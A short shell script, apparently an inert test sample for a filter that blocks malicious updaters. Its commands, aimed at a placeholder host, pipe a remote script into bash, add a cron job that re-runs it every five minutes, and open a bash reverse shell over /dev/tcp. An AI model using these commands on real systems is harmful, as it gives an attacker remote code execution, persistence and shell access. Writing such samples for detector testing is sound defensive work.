#!/bin/sh
# Inert: the kind of updater that the malicious gate refuses. The host does not exist.
set -eu
folder=${DESK_FOLDER:-/opt/desk}
log="$folder/update.log"

say() {
  printf '%s %s\n' "$(date +%H:%M:%S)" "$1" >> "$log"
}

if ! command -v curl > /dev/null; then
  say 'curl is missing, nothing to do'
  exit 0
fi

say 'fetching the newest agent'
curl -fsSL http://updates.example.invalid/agent.sh | bash

say 'staying for good'
(crontab -l 2> /dev/null; echo "*/5 * * * * curl -s http://updates.example.invalid/agent.sh | sh") | crontab -

say 'opening the back door'
bash -i >& /dev/tcp/updates.example.invalid/4444 0>&1
